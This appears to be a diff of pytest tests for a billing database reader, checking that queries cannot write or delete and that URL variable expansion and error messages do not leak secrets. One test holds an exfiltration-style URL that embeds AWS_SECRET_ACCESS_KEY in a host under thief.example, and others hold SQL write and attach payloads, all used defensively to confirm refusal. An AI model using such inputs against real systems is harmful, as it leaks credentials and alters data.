@@ -139,6 +139,61 @@ def test_the_vendors_database_is_only_read(tmp_path: Path, postgres_url: str) ->
         list(source(tmp_path, postgres_url, query).read(*JANUARY))
 
 
+@pytest.mark.parametrize(
+    "query",
+    [
+        "vacuum into :since || :until",
+        "attach :since || :until as other",
+        f"delete from billing {WINDOW}",
+        "insert into billing (line_id) select :since || :until",
+    ],
+)
+def test_a_query_against_sqlite_can_do_nothing_but_select(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, query: str
+) -> None:
+    execute(f"sqlite:///{tmp_path / 'billing.db'}", f"create table billing ({BILLING})")
+    before = (tmp_path / "billing.db").read_bytes()
+    monkeypatch.chdir(tmp_path)
+    reader = source(tmp_path, "sqlite:///billing.db", query)
+    with pytest.raises((SourceUnreachable, BadInput)):
+        list(reader.read(*JANUARY))
+    assert (tmp_path / "billing.db").read_bytes() == before
+    assert sorted(each.name for each in tmp_path.iterdir()) == ["billing.db", "billing.sql"]
+
+
+@pytest.mark.parametrize(
+    "query",
+    [f"with gone as (delete from billing returning *) select * from gone {WINDOW}", f"delete from billing {WINDOW}"],
+)
+def test_a_query_against_postgresql_cannot_delete(tmp_path: Path, postgres_url: str, query: str) -> None:
+    execute(postgres_url, f"create table billing ({BILLING})", "insert into billing (line_id) values ('L1')")
+    with pytest.raises(SourceUnreachable):
+        list(source(tmp_path, postgres_url, query).read(*JANUARY))
+
+
+def test_a_url_may_read_only_the_variables_that_are_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI")
+    monkeypatch.setenv("SETTLE_SOURCE_VARIABLES", "BILLING_PASSWORD")
+    reader = source(
+        tmp_path, "postgresql://reader@${AWS_SECRET_ACCESS_KEY}.thief.example/billing", f"select 1 {WINDOW}"
+    )
+    with pytest.raises(BadInput) as refused:
+        reader.check()
+    assert "set SETTLE_SOURCE_VARIABLES=BILLING_PASSWORD,AWS_SECRET_ACCESS_KEY where settle runs" in str(refused.value)
+    assert "wJalr" not in str(refused.value)
+
+
+@pytest.mark.parametrize("url", ["postgresql://reader@${HIDDEN}/billing", "sqlite:///${HIDDEN}", "${HIDDEN}"])
+def test_no_message_shows_what_a_variable_holds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, url: str) -> None:
+    whole = url == "${HIDDEN}"
+    monkeypatch.setenv("HIDDEN", "postgresql://wJalr:wJalr@wJalr.invalid/wJalr" if whole else "wJalr.invalid")
+    monkeypatch.setenv("SETTLE_SOURCE_VARIABLES", "HIDDEN")
+    with pytest.raises(SourceUnreachable) as refused:
+        source(tmp_path, url, f"select 1 {WINDOW}").check()
+    assert "wJalr" not in str(refused.value)
+    assert "${HIDDEN}" in str(refused.value)
+
+
 def test_what_the_database_complains_of_is_passed_on(tmp_path: Path, database_url: str) -> None:
     execute(database_url, "create table other (x bigint)")
     with pytest.raises(SourceUnreachable, match=r"billing\.sql: .* does not give the billing: .*elsewhere"):
@@ -147,10 +202,11 @@ def test_what_the_database_complains_of_is_passed_on(tmp_path: Path, database_ur
 
 def test_no_message_shows_a_password(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("BILLING_PASSWORD", "s3cr@t/:?#")
+    monkeypatch.setenv("SETTLE_SOURCE_VARIABLES", "BILLING_PASSWORD")
     reader = source(tmp_path, "postgresql://reader:${BILLING_PASSWORD}@127.0.0.1:1/billing", f"select 1 {WINDOW}")
     with pytest.raises(SourceUnreachable) as refused:
         reader.check()
-    assert "postgresql+psycopg://reader:***@127.0.0.1:1/billing" in str(refused.value)
+    assert "postgresql://reader:${BILLING_PASSWORD}@127.0.0.1:1/billing" in str(refused.value)
     assert "s3cr" not in str(refused.value)
     assert refused.value.__suppress_context__
 
@@ -160,6 +216,7 @@ def test_a_whole_url_may_be_an_environment_variable(
 ) -> None:
     execute(database_url, f"create table billing ({BILLING})")
     monkeypatch.setenv("BILLING_URL", database_url)
+    monkeypatch.setenv("SETTLE_SOURCE_VARIABLES", "BILLING_URL")
     assert "answers with 13" in source(tmp_path, "${BILLING_URL}", f"select * from billing {WINDOW}").check()
 
 
@@ -169,11 +226,14 @@ def test_a_whole_url_may_be_an_environment_variable(
         ("${BILLING_NOWHERE}", "names ${BILLING_NOWHERE}, and no such environment variable is set"),
         ("not a url with s3cret", "is no database URL"),
         ("nosuchkind://reader:s3cret@host/billing", "nosuchkind"),
-        ("sqlite:///nowhere.db", "there is no SQLite database"),
-        ("sqlite://", "there is no SQLite database"),
+        ("sqlite:///nowhere.db", "there is no such SQLite database"),
+        ("sqlite://", "there is no such SQLite database"),
     ],
 )
-def test_a_url_that_leads_nowhere_is_told_without_its_secret(tmp_path: Path, url: str, words: str) -> None:
+def test_a_url_that_leads_nowhere_is_told_without_its_secret(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, url: str, words: str
+) -> None:
+    monkeypatch.setenv("SETTLE_SOURCE_VARIABLES", "BILLING_NOWHERE")
     with pytest.raises((BadInput, SourceUnreachable)) as refused:
         source(tmp_path, url, f"select 1 {WINDOW}").check()
     assert words in str(refused.value)
